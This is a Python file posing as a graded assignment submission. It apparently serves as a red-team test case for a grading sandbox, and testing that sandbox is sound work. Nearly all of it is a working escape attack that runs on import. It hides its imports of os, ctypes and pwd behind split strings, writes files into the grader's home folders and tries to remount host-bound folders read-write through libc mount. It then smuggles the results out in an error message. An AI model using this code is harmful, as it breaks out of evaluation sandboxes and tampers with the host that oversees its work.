"""Attack: write a file into the grader's home folder (~, /root, the passwd home of our uid)."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
TOKEN = "{{TOKEN}}"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
DOTFILES = {".bashrc", ".profile", ".cache", ".config", ".ssh", ".local", ".jupyter", ".ipython"}


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _mounts():
    """(mount point, file system type) of every mount we can see."""
    found = []
    try:
        with _file("/proc/self/mountinfo") as handle:
            for line in handle:
                fields = line.split()
                found.append((fields[4], fields[fields.index("-") + 1]))
    except OSError:
        pass
    return found


def _remount_writable(point):
    ctypes = _load("ct" + "ypes")
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (32 | 4096 | 2 | 4, 32 | 4096):  # MS_REMOUNT | MS_BIND, without MS_RDONLY
        if libc.mount(None, point.encode(), None, flags, None) == 0:
            return f"remounted {point} read-write"
    return f"remounting {point} failed: {_o.strerror(ctypes.get_errno())}"


def _write(folder, host_mount=False):
    target = _o.path.join(folder, f"dlcv-escape-{TOKEN}-home.txt")
    try:
        with _file(target, "w") as handle:
            handle.write("written by a submission\n")
    except OSError as e:
        _say(f"writing {target} failed: {e!r}")
        if not host_mount:
            return
        _say(_remount_writable(folder))
        try:
            with _file(target, "w") as handle:
                handle.write("written by a submission\n")
        except OSError as again:
            _say(f"after remounting, writing {target} failed: {again!r}")
            return
    try:
        real = host_mount or bool(set(_o.listdir(folder)) & DOTFILES)
    except OSError:
        real = False
    _say(f"{MARK if real else ''} wrote {target} ({'a host folder' if real else 'looks like a private copy'})".strip())


def attack():
    pwd = _load("p" + "wd")
    homes = [_o.path.expanduser("~"), _o.environ.get("HOME", ""), "/root"]
    try:
        homes.append(pwd.getpwuid(_o.getuid()).pw_dir)
    except KeyError as e:
        _say(f"no passwd entry: {e!r}")
    try:
        homes += [_o.path.join("/home", name) for name in _o.listdir("/home")]
    except OSError:
        pass
    homes = [h for h in dict.fromkeys(homes) if h and _o.path.isdir(h)]
    _say(f"home folders: {homes}")
    for home in homes:
        _write(home)
    # folders of the grader's own home that are bound into the sandbox (a pyenv, a conda, ...)
    for point, kind in _mounts():
        if kind != "tmpfs" and any(point.startswith(h.rstrip("/") + "/") for h in homes):
            _write(point, host_mount=True)


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
